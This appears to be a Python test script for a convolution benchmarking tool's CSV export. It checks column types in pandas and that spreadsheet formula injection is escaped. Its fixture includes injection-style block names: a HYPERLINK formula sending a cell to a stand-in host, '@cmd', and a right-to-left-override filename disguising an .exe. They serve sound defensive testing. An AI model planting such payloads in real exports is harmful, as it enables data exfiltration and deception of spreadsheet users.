#!/usr/bin/env python3
"""The CSV read by pandas, as its users read it: the block's fields and the swept field are
numeric columns (no regex on `point`), and throughput is a number (issue 15, item 6). Names a
spreadsheet would run as formulas (=, +, -, @ first) come out as text with a leading ', numbers
(negative ones too) as numbers, and bidirectional controls escaped, in compare --csv and in
history export, read by pandas and by Python's csv module (issue 37, item 11).

usage: csv_pandas_test.py CONVBENCH SOURCE_DIR
"""
import csv
import io
import os
import subprocess
import sys
import tempfile

try:
    import pandas as pd
except ImportError:
    print("SKIP: pandas not importable (python3-pandas; scripts/setup.sh installs it)")
    sys.exit(0)


def csv_of(args):
    out = subprocess.run(args, check=True, capture_output=True, text=True).stdout
    return pd.read_csv(io.StringIO(out))


# Block and variant names as an attacker would write them: formulas in every form a spreadsheet
# runs, a number that is a name, and a right-to-left override.
FORMULA_SPEC = """blocks:
  - name: "=HYPERLINK(\\"http://example.invalid/?\\"&A1)"
    batch: 1
    in_channels: 4
    out_channels: 4
    size: [4, 4]
    variants:
      - standard
      - {kind: separable, name: "+SUM(1,2)"}
      - {kind: bottleneck, name: "-2+3", ratio: 2}
      - {kind: grouped, name: "@cmd", groups: 2}
  - name: "-7"
    batch: 1
    in_channels: 4
    out_channels: 4
    size: [4, 4]
    variants: [standard, {kind: separable, name: "evil\\u202Etxt.exe"}]
"""
NAMES = {"=HYPERLINK(\"http://example.invalid/?\"&A1)", "+SUM(1,2)", "-2+3", "@cmd", "-7", "standard"}


def risky(cell):
    """A cell a spreadsheet would run as a formula: = + - @ tab or CR first, and not a number."""
    if not cell or cell[0] not in "=+-@\t\r":
        return False
    try:
        float(cell)
        return False
    except ValueError:
        return True


def check_formula_csv(text, what, number_column, failures):
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows[1:] for c in row]
    bad = [c for c in cells if risky(c)]
    if bad:
        failures.append(f"{what}: cells a spreadsheet runs as formulas: {bad[:5]}")
    if "\u202e" in text:
        failures.append(f"{what}: a raw U+202E")
    if "evil\\u202etxt.exe" not in cells:
        failures.append(f"{what}: the right-to-left override is not shown escaped")
    shown = {c[1:] if c.startswith("'") else c for c in cells}
    if not NAMES <= shown:
        failures.append(f"{what}: names not read back (after the leading '): {sorted(NAMES - shown)}")
    if "-7" not in cells:
        failures.append(f"{what}: the block named -7 (a number) should stay as it is")
    df = pd.read_csv(io.StringIO(text))
    for column in df.columns:
        if pd.api.types.is_object_dtype(df[column]):
            bad = [c for c in df[column].dropna() if isinstance(c, str) and risky(c)]
            if bad:
                failures.append(f"{what}: pandas column {column}: {bad[:3]}")
    if not pd.api.types.is_numeric_dtype(df[number_column]):
        failures.append(f"{what}: {number_column} is {df[number_column].dtype}, not numbers")


def formula_cells(binary, failures):
    with tempfile.TemporaryDirectory() as tmp:
        spec, out, db = (os.path.join(tmp, n) for n in ("formulas.yaml", "formulas.csv", "h.sqlite"))
        with open(spec, "w", encoding="utf-8") as f:
            f.write(FORMULA_SPEC)
        r = subprocess.run([binary, "compare", spec, "--device", "reference", "--min-time", "0", "--min-samples", "2",
                            "--timeout", "1", "-q", "--csv", out, "--db", db], capture_output=True, text=True)
        if r.returncode != 0:
            failures.append(f"compare --csv --db of formula names: {r.returncode} {r.stderr[-300:]}")
            return
        check_formula_csv(open(out, encoding="utf-8").read(), "compare --csv", "params", failures)
        r = subprocess.run([binary, "history", "export", "--db", db], capture_output=True, text=True)
        if r.returncode != 0:
            failures.append(f"history export: {r.returncode} {r.stderr[-300:]}")
        else:
            check_formula_csv(r.stdout, "history export", "median_ms", failures)


def main():
    binary, source = sys.argv[1], sys.argv[2]
    failures = []
    spec = os.path.join(source, "tests/data/results/readme-spec.yaml")
    df = csv_of([binary, "analyze", spec, "--sweep", "batch=1,2,4", "--format", "csv"])
    for column in ("batch", "in_channels", "out_channels", "in_depth", "in_height", "in_width", "kernel_depth",
                   "kernel_height", "kernel_width", "sweep_batch", "params", "flops_forward", "predicted_peak_bytes",
                   "buffers", "buffer_counters"):
        if column not in df.columns:
            failures.append(f"no column {column}")
        elif not pd.api.types.is_integer_dtype(df[column]):
            failures.append(f"{column} is {df[column].dtype}, not integers")
    if not failures:
        if sorted(df["sweep_batch"].unique()) != [1, 2, 4] or not (df["batch"] == df["sweep_batch"]).all():
            failures.append("sweep_batch and batch disagree")
        # What a pandas user does with it: memory per sample across the sweep, per variant.
        per_sample = (df["predicted_peak_bytes"] / df["batch"]).groupby(df["variant"]).agg(["min", "max"])
        print(per_sample)
        if (per_sample["max"] / per_sample["min"] > 2.0).any():
            failures.append("peak bytes per sample should not vary wildly across the batch sweep")
        # PyTorch's count of the module's buffers: running statistics (2 per channel of each batch
        # norm) plus one num_batches_tracked per batch norm.
        torch_buffers = (df["buffers"] + df["buffer_counters"]).groupby(df["variant"]).first().to_dict()
        if torch_buffers != {"standard": 65, "bottleneck": 131, "separable": 98}:
            failures.append(f"buffers + buffer_counters per variant: {torch_buffers}")

    # Text fields stay text: dtype, layout, mode, and a swept dtype's column.
    text = csv_of([binary, "analyze", spec, "--sweep", "dtype=float32,float16", "--format", "csv"])
    for column in ("dtype", "layout", "mode", "sweep_dtype"):
        if column not in text.columns or not pd.api.types.is_object_dtype(text[column]):
            failures.append(f"{column} missing or not text")
    if not failures and (list(text["sweep_dtype"].unique()) != ["float32", "float16"]
                         or not (text["dtype"] == text["sweep_dtype"]).all()):
        failures.append(f"sweep_dtype and dtype disagree: {list(text['sweep_dtype'])}")

    measured = csv_of([binary, "report", os.path.join(source, "tests/data/results/measured.json"), "--format", "csv"])
    if not pd.api.types.is_float_dtype(measured["samples_per_s"]):
        failures.append(f"samples_per_s is {measured['samples_per_s'].dtype}")
    ratio = measured["samples_per_s"] * measured["step_median_ms"].fillna(measured["forward_median_ms"]) / 1000.0
    if not ((ratio - measured["batch"]).abs() < 1e-3 * measured["batch"]).all():
        failures.append(f"samples_per_s x median time != batch: {list(ratio)}")
    if list(measured["trust"].unique()) != ["ok"]:
        failures.append(f"trust column: {measured['trust'].unique()}")
    formula_cells(binary, failures)
    for f in failures:
        print("FAIL:", f)
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
